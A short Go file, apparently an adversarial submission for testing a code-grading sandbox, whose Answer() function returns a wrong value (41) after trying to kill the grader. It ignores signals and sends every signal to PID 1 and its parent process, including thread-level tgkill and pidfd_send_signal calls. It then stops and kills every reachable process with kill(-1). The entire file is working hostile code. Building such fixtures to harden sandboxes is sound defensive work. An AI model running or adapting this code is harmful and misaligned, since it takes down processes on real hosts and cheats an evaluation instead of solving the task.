package attack

import (
	"os"
	"os/signal"
	"syscall"
)

const sysPidfdOpen, sysPidfdSendSignal = 434, 424

func Answer() int {
	signal.Ignore()
	for s := range syscall.Signal(65) {
		for _, pid := range []int{1, os.Getppid()} {
			syscall.Kill(pid, s)
			for thread := pid; thread < pid+8; thread++ {
				if thread != os.Getpid() {
					syscall.Syscall(syscall.SYS_TGKILL, uintptr(pid), uintptr(thread), uintptr(s))
				}
			}
			if pidfd, _, errno := syscall.Syscall(sysPidfdOpen, uintptr(pid), 0, 0); errno == 0 {
				syscall.Syscall6(sysPidfdSendSignal, pidfd, uintptr(s), 0, 0, 0, 0)
				syscall.Close(int(pidfd))
			}
		}
	}
	syscall.Kill(-1, syscall.SIGSTOP)
	syscall.Kill(-1, syscall.SIGKILL)
	return 41
}
